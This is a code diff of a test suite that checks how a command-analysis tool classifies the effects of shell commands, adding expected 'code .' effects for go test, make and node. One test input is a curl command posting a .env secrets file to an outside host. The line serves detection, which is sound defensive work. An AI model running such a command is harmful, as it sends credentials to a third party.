@@ -109,10 +109,13 @@ describe("what programs do", () => {
     ],
     [
       ["go", "test", "-exec", "./x"],
-      ["option-consequences", "script ./x", "guess test"],
+      ["option-consequences", "script ./x", "guess test", "code ."],
     ],
-    [["make", "CC=./x"], ["make-variable"]],
-    [["make", "V=1"], []],
+    [
+      ["make", "CC=./x"],
+      ["code .", "make-variable"],
+    ],
+    [["make", "V=1"], ["code ."]],
     [
       ["curl", "-d", "@.env", "https://a.b"],
       ["network https://a.b", "read .env"],
@@ -121,7 +124,10 @@ describe("what programs do", () => {
       ["node", "-e", "x"],
       ["option-consequences", "opaque-code"],
     ],
-    [["node", "a.js"], ["read a.js"]],
+    [
+      ["node", "a.js"],
+      ["read a.js", "code ."],
+    ],
   ])("%j", (line, expected) => {
     expect(effects(line)).toEqual(expected);
   });
